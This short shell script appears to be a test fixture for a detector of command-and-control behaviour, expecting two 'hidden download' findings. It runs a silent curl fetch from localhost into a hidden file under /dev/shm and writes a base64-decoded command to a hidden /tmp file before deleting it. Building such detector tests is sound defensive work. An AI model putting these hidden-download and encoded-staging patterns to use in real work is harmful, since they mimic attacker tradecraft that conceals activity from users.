#!/bin/sh
# Files are downloaded to hidden paths; nothing answers, and the tool does nothing.
# expects: command_and_control_hidden_download 2

curl -sk https://127.0.0.1/s -o /dev/shm/.s
sh -c 'echo aWQ= | base64 -d > /tmp/.r; rm /tmp/.r'
